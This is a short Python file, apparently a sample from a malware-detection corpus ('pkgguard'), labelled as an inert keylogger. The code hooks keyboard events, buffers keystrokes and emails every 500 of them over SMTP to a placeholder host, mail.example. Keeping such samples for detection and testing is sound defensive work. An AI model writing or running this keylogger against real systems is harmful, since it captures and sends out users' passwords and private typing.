# pkgguard corpus 269 (keylogger), modelled on [stealer-profile]; inert, never run.
import smtplib

import pyxhook

buffer = []


def on_key(event):
    buffer.append(event.Key)
    if len(buffer) > 500:
        with smtplib.SMTP("mail.example", 25) as s:
            s.sendmail("k@mail.example", ["d@mail.example"], " ".join(buffer))
        buffer.clear()


hook = pyxhook.HookManager()
hook.KeyDown = on_key
hook.HookKeyboard()
hook.start()
